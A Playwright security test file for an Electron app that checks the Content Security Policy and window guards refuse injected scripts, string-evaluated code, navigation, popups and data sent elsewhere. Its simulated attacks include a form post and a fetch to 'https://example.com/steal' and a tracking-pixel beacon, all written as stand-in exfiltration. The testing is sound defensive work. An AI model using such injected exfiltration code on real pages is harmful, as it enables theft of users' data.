import { PREVIEW_ORIGIN } from '../support/launch-snowdesk.js';
import { expect, test } from '../support/snowdesk-test.js';

/**
 * Issue 7, security checks in real Chromium: the built renderer under the CSP header the app://
 * protocol serves (the launcher serves it with the same serveAppRequest). A script running in the
 * page, as an injected one would, tries to run code of its own and to send data or the person
 * elsewhere; the CSP refuses each with a `securitypolicyviolation`, and the page stays where it
 * is. Navigation and new windows are not CSP matters: in Electron, harden-window.ts refuses them
 * (tests/unit/main/window-guards.test.ts, tests/electron/kiosk.spec.ts); here the launcher stands
 * in for it with the same decisions, and the page is held to the result.
 */

interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    __violations?: Violation[];
    __injected?: string[];
  }
}

test('the CSP refuses injected script, string code, form posts and every request elsewhere', async ({
  app,
}) => {
  const { page } = app;
  await expect(page.getByRole('heading', { name: '本机状态' })).toBeVisible();
  await page.evaluate(() => {
    document.body.dataset.marker = 'still here';
    window.__violations = [];
    window.__injected = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.__violations?.push({ directive: event.effectiveDirective, blocked: event.blockedURI });
    });
  });

  const expected = [
    'script-src-elem',
    'script-src-attr',
    'script-src',
    'form-action',
    'connect-src',
    'img-src',
    'frame-src',
  ];
  const seen = (directive: string) =>
    page.evaluate((d) => window.__violations?.some((v) => v.directive === d) ?? false, directive);

  await page.evaluate(() => {
    // an inline <script>, an inline event handler, and code from a string (as a timer)
    const script = document.createElement('script');
    script.textContent = "window.__injected.push('inline script')";
    document.head.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', "window.__injected.push('event handler')");
    img.src = 'data:,not-an-image';
    document.body.append(img);
    (setTimeout as unknown as (code: string, ms: number) => void)(
      "window.__injected.push('string timer')",
      0,
    );
    // sending data elsewhere: a form post, a fetch, an image, a frame
    const form = document.createElement('form');
    form.action = 'https://example.com/steal';
    form.method = 'post';
    const field = document.createElement('input');
    field.name = 'guest';
    field.value = 'a guest';
    form.append(field);
    document.body.append(form);
    form.submit();
    void fetch('https://example.com/steal').catch(() => undefined);
    const beacon = document.createElement('img');
    beacon.src = 'https://example.com/pixel.png';
    document.body.append(beacon);
    const frame = document.createElement('iframe');
    frame.src = 'https://example.com/';
    document.body.append(frame);
  });
  for (const directive of expected) await expect.poll(() => seen(directive), directive).toBe(true);

  expect(await page.evaluate(() => window.__injected)).toEqual([]);
  // the same document, not a page the form or a frame put in its place (the form's refused
  // navigation leaves Playwright's locators waiting for it, so the DOM is read directly)
  expect(await page.evaluate(() => document.body.dataset.marker)).toBe('still here');
  expect(await page.evaluate(() => document.location.origin)).toBe(PREVIEW_ORIGIN);
});

test('a page script can neither navigate the window away nor keep a new window', async ({ app }) => {
  const { page, context } = app;
  const heading = page.getByRole('heading', { name: '本机状态' });
  await expect(heading).toBeVisible();
  const marker = await page.evaluate(() => {
    const value = String(Math.random());
    document.body.dataset.marker = value;
    return value;
  });

  // a navigation elsewhere is cancelled: the same document stays, marker and all
  const requested = page.waitForRequest('https://example.com/');
  await page.evaluate(() => {
    window.location.href = 'https://example.com/';
  });
  await requested;
  const assigned = page.waitForRequest('https://example.com/away');
  await page.evaluate(() => {
    window.location.assign('https://example.com/away');
  });
  await assigned;
  await expect(heading).toBeVisible();
  expect(await page.evaluate(() => document.body.dataset.marker)).toBe(marker);
  expect(new URL(page.url()).origin).toBe(PREVIEW_ORIGIN);

  // a new window does not stay open
  const popup = context.waitForEvent('page');
  await page.evaluate(() => {
    window.open('https://example.com/', '_blank');
  });
  const opened = await popup;
  if (!opened.isClosed()) await opened.waitForEvent('close');
  expect(context.pages()).toEqual([page]);
  await expect(heading).toBeVisible();
  expect(new URL(page.url()).origin).toBe(PREVIEW_ORIGIN);
});
